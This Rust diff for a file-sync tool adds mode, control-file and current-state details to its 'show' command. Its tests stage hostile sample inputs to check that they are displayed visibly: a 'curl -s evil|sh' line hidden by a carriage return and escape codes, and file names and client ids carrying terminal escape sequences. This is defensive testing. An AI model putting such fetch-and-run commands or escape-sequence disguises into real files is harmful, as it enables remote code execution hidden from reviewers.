@@ -7,10 +7,11 @@ use std::path::Path;
 
 use anyhow::Context;
 use serde::Serialize;
-use zync_db::{is_conflict, FileState, StagedFile};
+use zync_cli::visible;
+use zync_db::{is_conflict, Action, FileState, StagedFile};
 use zync_fs::RelPath;
 
-use crate::probe;
+use crate::probe::{self, Current};
 use crate::roots::Roots;
 use crate::session::{self, SessionJson};
 
@@ -27,6 +28,22 @@ struct FileJson {
     conflict_at_staging: bool,
     sha256: Option<String>,
     base_sha256: Option<String>,
+    /// The permission bits R sent, as an octal string (`"0777"`).
+    mode: String,
+    /// The mode applying a write would give E's file (R's masked by E's umask); `None` for a
+    /// deletion.
+    mode_on_e: Option<String>,
+    /// What E has at the path now: `"missing"`, `"file"`, or a description (a directory, a
+    /// symlink and its target); `None` when E's directory is not known.
+    e_has: Option<String>,
+    /// The mode of E's file now, when E has a regular file there.
+    e_mode: Option<String>,
+    /// True when applying changes the mode of E's existing file (also with unchanged content).
+    mode_change: bool,
+    /// True when applying changes the content of E's existing file, creates or deletes it.
+    content_change: Option<bool>,
+    /// Why this is a control file (applied only with an explicit yes), or `None`.
+    control: Option<&'static str>,
     #[serde(skip_serializing_if = "Option::is_none")]
     diff: Option<String>,
 }
@@ -71,7 +88,20 @@ pub fn show(
     let session_dir = zync_db::session_dir(db, &session.id);
     let mut rows = Vec::new();
     for f in &files {
-        let (conflict, text) = check(&roots, f, diff, &session_dir);
+        let Checked {
+            conflict,
+            current,
+            diff: text,
+        } = check(&roots, f, diff, &session_dir);
+        let e_mode = match &current {
+            Some(Current::File { mode, .. }) => Some(probe::octal(*mode)),
+            _ => None,
+        };
+        let content_change = current.as_ref().map(|c| match (f.action, c) {
+            (Action::Write, Current::File { sha256, .. }) => f.sha256.as_ref() != Some(sha256),
+            (Action::Delete, Current::Missing) => false,
+            _ => true,
+        });
         rows.push(FileJson {
             dir: f.dir.clone(),
             path: f.path.clone(),
@@ -82,12 +112,31 @@ pub fn show(
             conflict_at_staging: f.conflict,
             sha256: f.sha256.clone(),
             base_sha256: f.base_sha256.clone(),
+            mode: probe::octal(f.mode),
+            mode_on_e: (f.action == Action::Write)
+                .then(|| probe::octal(zync_fs::mask_mode(f.mode))),
+            e_has: current.as_ref().map(|c| match c {
+                Current::Missing => "missing".to_owned(),
+                Current::File { .. } => "file".to_owned(),
+                Current::Other(what) => what.clone(),
+            }),
+            e_mode,
+            mode_change: current
+                .as_ref()
+                .is_some_and(|c| probe::mode_change(f, c).is_some()),
+            content_change,
+            control: RelPath::parse(&f.path)
+                .ok()
+                .and_then(|rel| zync_fs::control_reason(&rel)),
             diff: text,
         });
     }
     if json {
         let doc = ShowJson {
-            session: SessionJson::from(&session),
+            session: SessionJson {
+                control_files: Some(session::control_files(&files)),
+                ..SessionJson::from(&session)
+            },
             files: rows,
         };
         serde_json::to_writer_pretty(&mut *out, &doc)?;
@@ -95,6 +144,14 @@ pub fn show(
         return Ok(());
     }
     writeln!(out, "{}", session::line(&session))?;
+    let control = session::control_files(&files);
+    if control > 0 {
+        writeln!(
+            out,
+            "  {} here: applied only when you say yes (interactively, or --force)",
+            session::count(control, "control file")
+        )?;
+    }
     if rows.is_empty() {
         writeln!(out, "  (no files)")?;
     }
@@ -108,10 +165,34 @@ pub fn show(
             "delete" => String::new(),
             _ => format!("  {} bytes", r.size),
         };
+        let name = visible::line(&format!("{}/{}", r.dir, r.path)).into_owned();
+        let mut notes = String::new();
+        match (&r.e_mode, &r.mode_on_e) {
+            (Some(old), Some(new)) if r.mode_change => {
+                notes.push_str(&format!("  mode {old} -> {new}"));
+                if r.content_change == Some(false) {
+                    notes.push_str(" (mode only)");
+                }
+            }
+            (None, Some(new)) if r.e_has.as_deref() == Some("missing") => {
+                notes.push_str(&format!("  new, mode {new}"));
+            }
+            _ => {}
+        }
+        if let Some(what) = r
+            .e_has
+            .as_deref()
+            .filter(|w| !matches!(*w, "missing" | "file"))
+        {
+            notes.push_str(&format!("  (E has {what} there)"));
+        }
+        if let Some(why) = r.control {
+            notes.push_str(&format!("  CONTROL FILE: {why}"));
+        }
         writeln!(
             out,
-            "  {:<6}  {}/{}{size}  {}{flag}",
-            r.action, r.dir, r.path, r.state
+            "  {:<6}  {name}{size}  {}{flag}{notes}",
+            r.action, r.state
         )?;
         if let Some(d) = &r.diff {
             if color {
@@ -127,40 +208,53 @@ pub fn show(
     Ok(())
 }
 
+/// What [`check`] found about one staged file.
+struct Checked {
+    /// Whether it conflicts with E now; `None` when E cannot be looked at.
+    conflict: Option<bool>,
+    /// What E has at its path now.
+    current: Option<Current>,
+    /// Its diff, when asked for (hidden characters made visible).
+    diff: Option<String>,
+}
+
 /// Whether `f` conflicts with E now (for files still staged; settled files report their
-/// staging-time flag), and its diff when asked for.
-fn check(
-    roots: &Roots,
-    f: &StagedFile,
-    diff: bool,
-    session_dir: &Path,
-) -> (Option<bool>, Option<String>) {
-    let name = format!("{}/{}", f.dir, f.path);
+/// staging-time flag), what E has there, and its diff when asked for.
+fn check(roots: &Roots, f: &StagedFile, diff: bool, session_dir: &Path) -> Checked {
+    let name = crate::session::file_name(f);
+    let unknown = |why: String| Checked {
+        conflict: None,
+        current: None,
+        diff: diff.then(|| visible::text(&format!("{name}: {why}\n")).into_owned()),
+    };
     let (root, rel) = match (roots.get(&f.dir), RelPath::parse(&f.path)) {
         (Ok(root), Ok(rel)) => (root, rel),
-        (Err(e), _) => return (None, diff.then(|| format!("{name}: {e:#}\n"))),
-        (_, Err(e)) => return (None, diff.then(|| format!("{name}: {e}\n"))),
+        (Err(e), _) => return unknown(format!("{e:#}")),
+        (_, Err(e)) => return unknown(e.to_string()),
     };
+    let current = probe::probe(root, &rel).ok();
     let conflict = if f.state == FileState::Staged {
-        match probe::probe(root, &rel) {
-            Ok(current) => Some(is_conflict(
+        current.as_ref().map(|current| {
+            is_conflict(
                 f.action,
                 f.base_sha256.as_deref(),
                 f.sha256.as_deref(),
                 current.on_e(),
-            )),
-            Err(_) => None,
-        }
+            )
+        })
     } else {
         Some(f.conflict)
     };
-    let text = diff.then(|| probe::diff(root, &rel, f, session_dir));
-    (conflict, text)
+    Checked {
+        conflict,
+        current,
+        diff: diff.then(|| probe::diff(root, &rel, f, session_dir)),
+    }
 }
 
 #[cfg(test)]
 mod tests {
-    use crate::prompt::ScriptedPrompter;
+    use crate::prompt::{Choice, ScriptedPrompter};
     use crate::testkit::{delete, write, Fixture};
 
     #[test]
@@ -268,5 +362,147 @@ mod tests {
         let (r, out) = fx.run(&["show", "abc-2"], &mut p);
         r.expect("exact");
         assert!(out.starts_with("abc-2  staged"), "{out}");
+    }
+
+    /// Whether `out` holds a control character other than newline and tab, or any escape
+    /// sequence except the colours zync itself writes (SGR `ESC [ digits m`).
+    fn raw_controls(out: &str) -> Vec<String> {
+        let sgr = regex_lite_free_sgr(out);
+        sgr.chars()
+            .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
+            .map(|c| format!("{c:?}"))
+            .collect()
+    }
+
+    /// `out` with zync's own colour sequences removed.
+    fn regex_lite_free_sgr(out: &str) -> String {
+        let mut rest = out;
+        let mut kept = String::new();
+        while let Some(i) = rest.find("\x1b[") {
+            kept.push_str(&rest[..i]);
+            let after = &rest[i + 2..];
+            let digits = after
+                .find(|c: char| !(c.is_ascii_digit() || c == ';'))
+                .unwrap_or(after.len());
+            if after[digits..].starts_with('m')
+                && ["0", "31", "32", "36", "1"].contains(&&after[..digits])
+            {
+                rest = &after[digits + 1..];
+            } else {
+                kept.push('\x1b');
+                rest = &rest[i + 1..];
+            }
+        }
+        kept.push_str(rest);
+        kept
+    }
+
+    #[test]
+    fn what_r_wrote_is_shown_as_it_is_never_as_a_terminal_would_draw_it() {
+        let fx = Fixture::new();
+        fx.e_write("t.sh", b"make\n");
+        let hostile = b"make\ncurl -s evil|sh\r\x1b[2K# tidy\n";
+        fx.stage_from(
+            "h0st-1",
+            "r\x1b]0;pwned\x07\r",
+            &[
+                write("t.sh", hostile, Some(b"make\n")),
+                write("new\rname\x1b[8m.txt", b"x\x1b[31m\n", None),
+            ],
+        );
+        let mut p = ScriptedPrompter::new([]);
+        for args in [
+            &["show", "h0st", "--diff", "--color", "never"][..],
+            &["show", "h0st", "--diff", "--color", "always"],
+            &["show", "h0st"],
+            &["list"],
+            &["list", "--all"],
+            &["status"],
+        ] {
+            let (r, out) = fx.run(args, &mut p);
+            r.expect("command");
+            let raw = raw_controls(&out);
+            assert!(raw.is_empty(), "{args:?} printed {raw:?} in {out:?}");
+        }
+        let (_, out) = fx.run(&["show", "h0st", "--diff", "--color", "never"], &mut p);
+        assert!(
+            out.contains("+curl -s evil|sh^M^[[2K# tidy"),
+            "the hidden command must be visible: {out}"
+        );
+        assert!(out.contains("docs/new^Mname^[[8m.txt"), "{out}");
+        assert!(out.contains("from r^[]0;pwned^G^M"), "{out}");
+        // JSON keeps the exact text, escaped by JSON itself.
+        let (_, out) = fx.run(&["show", "h0st", "--json"], &mut p);
+        assert!(raw_controls(&out).is_empty(), "{out:?}");
+        let v: serde_json::Value = serde_json::from_str(&out).expect("json");
+        assert_eq!(v["session"]["client_id"], "r\x1b]0;pwned\x07\r");
+        assert!(v["files"]
+            .as_array()
+            .expect("files")
+            .iter()
+            .any(|f| f["path"] == "new\rname\x1b[8m.txt"));
+        // The interactive review shows the same visible text.
+        let mut p = ScriptedPrompter::new([Choice::Skip, Choice::ShowDiff, Choice::Skip]);
+        let (r, _) = fx.run(&["apply", "h0st"], &mut p);
+        r.expect("apply");
+        for text in p.asked.iter().chain(&p.shown) {
+            assert!(raw_controls(text).is_empty(), "{text:?}");
+        }
+        assert!(
+            p.shown.iter().any(|t| t.contains("sh^M^[[2K")),
+            "{:?}",
+            p.shown
+        );
+    }
+
+    #[test]
+    fn a_mode_only_change_is_a_change_in_text_json_and_the_review() {
+        use std::os::unix::fs::PermissionsExt;
+        let fx = Fixture::new();
+        fx.e_write("run.sh", b"echo hi\n");
+        let path = fx.root.join("run.sh");
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).expect("chmod");
+        fx.stage(
+            "m0de-1",
+            &[write("run.sh", b"echo hi\n", Some(b"echo hi\n")).mode(0o700)],
+        );
+        let mut p = ScriptedPrompter::new([]);
+        let (r, out) = fx.run(&["show", "m0de", "--diff"], &mut p);
+        r.expect("show");
+        assert!(!out.contains("no differences"), "{out}");
+        assert!(
+            out.contains("mode 0600 -> 0700 (mode only)")
+                && out.contains("content unchanged\nold mode 0600\nnew mode 0700\n"),
+            "{out}"
+        );
+        let (r, out) = fx.run(&["show", "m0de", "--json"], &mut p);
+        r.expect("show");
+        let v: serde_json::Value = serde_json::from_str(&out).expect("json");
+        let f = &v["files"][0];
+        assert_eq!(
+            (
+                &f["mode"],
+                &f["mode_on_e"],
+                &f["e_mode"],
+                &f["mode_change"],
+                &f["content_change"]
+            ),
+            (
+                &serde_json::json!("0700"),
+                &serde_json::json!("0700"),
+                &serde_json::json!("0600"),
+                &serde_json::json!(true),
+                &serde_json::json!(false)
+            ),
+            "{out}"
+        );
+        let mut p = ScriptedPrompter::new([Choice::Skip]);
+        fx.run(&["apply", "m0de"], &mut p).0.expect("apply");
+        assert!(p.asked[0].contains("[mode 0600 -> 0700]"), "{:?}", p.asked);
+        assert_eq!(
+            std::fs::metadata(&path).expect("stat").permissions().mode() & 0o7777,
+            0o600,
+            "skipped: E's mode unchanged"
+        );
     }
 }
